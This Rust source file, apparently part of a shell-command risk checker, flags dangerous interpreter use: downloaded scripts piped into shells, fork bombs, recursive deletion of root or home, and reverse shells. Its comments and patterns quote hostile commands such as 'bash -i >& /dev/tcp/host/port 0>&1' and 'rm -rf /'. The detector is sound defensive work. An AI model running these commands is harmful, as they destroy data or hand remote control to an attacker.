//! Interpreters and code runners: shells, eval, source, perl/python/ruby/node.

use crate::risk::prelude::*;

/// The family's rules; `false` when `name` is not one of its commands.
// One arm per command name; folding the inner `if`s into guards would let a
// command that fails its guard fall through to unrelated later arms.
#[allow(clippy::collapsible_match)]
pub(crate) fn check(name: &str, ctx: &Ctx, acc: &mut Acc) -> bool {
    match name {
        "eval" => {
            let script: Vec<&str> = ctx.args.to_vec();
            if ctx
                .eff
                .args
                .iter()
                .any(|w| w.subs.iter().any(|s| script_downloads(s)))
            {
                acc.danger("evaluates a script downloaded from the network");
            }
            assess_script(&script.join(" "), ctx.depth + 1, acc);
        }
        "source" | "." => {
            if ctx
                .eff
                .args
                .iter()
                .any(|w| w.procsub && w.subs.iter().any(|s| script_downloads(s)))
            {
                acc.danger("sources a script downloaded from the network");
            }
        }
        "su" => {
            if let Some(i) = ctx
                .args
                .iter()
                .position(|a| *a == "-c" || *a == "--command")
            {
                if let Some(s) = ctx.args.get(i + 1) {
                    assess_script(s, ctx.depth + 1, acc);
                }
            }
        }
        "perl" | "ruby" | "python" | "python3" | "node" => {}
        "chroot" => {
            // chroot DIR CMD...
            let pos = ctx.positionals();
            if pos.len() > 1 {
                let rest: Vec<&str> = pos[1..].iter().map(|w| w.text.as_str()).collect();
                assess_script(&rest.join(" "), ctx.depth + 1, acc);
            }
        }
        _ => return false,
    }
    true
}

pub(crate) fn analyze_interpreter(ctx: &Ctx, acc: &mut Acc) {
    let name = ctx.eff.name.as_str();
    let args = ctx.args;
    let words = ctx.eff.args;
    // Downloaded script piped into the interpreter.
    let upstream_downloads = ctx.upstream.iter().any(|c| {
        unwrap_cmd(&c.words)
            .is_some_and(|e| DOWNLOADERS.contains(&e.name.to_ascii_lowercase().as_str()))
            || c.words
                .iter()
                .any(|w| w.subs.iter().any(|s| script_downloads(s)))
    });
    // `sh -s -- args` reads the script from stdin; words after `--` are its arguments.
    let reads_stdin = is_shell(name) && has_flag(args, 's', &[]);
    let before_ddash: Vec<Word> = words
        .iter()
        .take_while(|w| w.text != "--")
        .cloned()
        .collect();
    let has_script_file = !reads_stdin
        && positionals(&before_ddash)
            .first()
            .is_some_and(|w| w.text != "-" && !w.procsub);
    // `echo 'rm -rf /' | sh`: the printed text is the script.
    if is_shell(name) && !has_script_file {
        if let Some(e) = ctx.prev.and_then(|p| unwrap_cmd(&p.words)) {
            if matches!(e.name.as_str(), "echo" | "printf") {
                let text: Vec<&str> = e
                    .args
                    .iter()
                    .map(|w| w.text.as_str())
                    .filter(|a| !(a.starts_with('-') && a.len() == 2))
                    .collect();
                assess_script(&text.join(" ").replace("\\n", "\n"), ctx.depth + 1, acc);
            }
        }
    }
    let c_index = args.iter().position(|a| {
        a.starts_with('-')
            && !a.starts_with("--")
            && (a[1..].contains('c') && is_shell(name)
                || matches!(*a, "-c" | "-e" | "-E")
                || a.ends_with('e') && name == "perl"
                || *a == "-Command")
    });
    if upstream_downloads
        && (!has_script_file
            || c_index.is_none() && positionals(words).first().is_some_and(|w| w.text == "-"))
        && c_index.is_none()
    {
        acc.danger(format!("pipes a downloaded script into {name}"));
    }
    if words
        .iter()
        .any(|w| w.procsub && w.subs.iter().any(|s| script_downloads(s)))
    {
        acc.danger(format!("runs a downloaded script with {name} <(…)"));
    }
    for r in &ctx.cmd.redirs {
        if r.kind == RedirKind::Read
            && r.target.procsub
            && r.target.subs.iter().any(|s| script_downloads(s))
        {
            acc.danger(format!("feeds a downloaded script into {name}"));
        }
        if r.kind == RedirKind::Heredoc && is_shell(name) && !has_script_file {
            assess_script(&r.body, ctx.depth + 1, acc);
        }
        if r.kind == RedirKind::Herestring && is_shell(name) {
            if r.target.subs.iter().any(|s| script_downloads(s)) {
                acc.danger(format!("feeds a downloaded script into {name}"));
            }
            assess_script(&r.target.text, ctx.depth + 1, acc);
        }
    }
    if let Some(ci) = c_index {
        if let Some(script) = words.get(ci + 1) {
            if script.subs.iter().any(|s| script_downloads(s)) {
                acc.danger(format!(
                    "runs a downloaded script with {name} -c \"$(curl …)\""
                ));
            }
            if is_shell(name) {
                assess_script(&script.text, ctx.depth + 1, acc);
            } else {
                let code = script.text.replace(' ', "");
                if code.contains("forkwhilefork")
                    || code.contains("os.fork()") && code.contains("while")
                    || code.contains("fork()while")
                {
                    acc.danger(format!("{name} fork bomb"));
                }
                if code.contains("shutil.rmtree('/')")
                    || code.contains("shutil.rmtree(\"/\")")
                    || code.contains("rmtree(os.path.expanduser('~'))")
                {
                    acc.danger(format!("{name} deletes the whole filesystem or home"));
                }
                // Shell commands the code hands to a shell (system, exec, backticks…).
                for inner in interpreter_shell_strings(&script.text) {
                    assess_script(&inner, ctx.depth + 1, acc);
                }
            }
        }
    }
    // Reverse shells: bash -i >& /dev/tcp/host/port 0>&1
    if is_shell(name)
        && ctx.cmd.redirs.iter().any(|r| {
            r.target.text.starts_with("/dev/tcp/") || r.target.text.starts_with("/dev/udp/")
        })
    {
        acc.danger("opens a reverse shell to a remote host");
    }
}

/// The string literals in interpreter code (`perl -e`, `python3 -c`, `ruby -e`, `node -e`)
/// that the code runs through a shell: only when the code calls one (`system`, `exec`,
/// `popen`, backticks, `qx`, `subprocess`, `child_process`), so printing a dangerous string
/// stays harmless.
pub(crate) fn interpreter_shell_strings(code: &str) -> Vec<String> {
    const RUNS_SHELL: &[&str] = &[
        "system",
        "exec",
        "popen",
        "spawn",
        "subprocess",
        "child_process",
        "qx",
        "`",
        "%x",
    ];
    if !RUNS_SHELL.iter().any(|k| code.contains(k)) {
        return Vec::new();
    }
    let mut out = Vec::new();
    let chars: Vec<char> = code.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        // Perl's q{…}, qq{…}, qx{…}, q(…): a quote-like operator with a bracket.
        let perl_open = if c == 'q' {
            let j = if chars.get(i + 1).is_some_and(|&n| n == 'q' || n == 'x') {
                i + 2
            } else {
                i + 1
            };
            chars
                .get(j)
                .and_then(|&b| match b {
                    '{' => Some((j, '}')),
                    '(' => Some((j, ')')),
                    '[' => Some((j, ']')),
                    _ => None,
                })
                .filter(|_| i == 0 || !chars[i - 1].is_alphanumeric())
        } else {
            None
        };
        let (start, close) = match (c, perl_open) {
            (_, Some((j, close))) => (j + 1, close),
            ('\'' | '"' | '`', None) => (i + 1, c),
            _ => {
                i += 1;
                continue;
            }
        };
        let mut j = start;
        while j < chars.len() && chars[j] != close {
            if chars[j] == '\\' {
                j += 1;
            }
            j += 1;
        }
        let end = j.min(chars.len());
        if start <= end {
            out.push(chars[start..end].iter().collect());
        }
        i = end + 1;
    }
    out
}
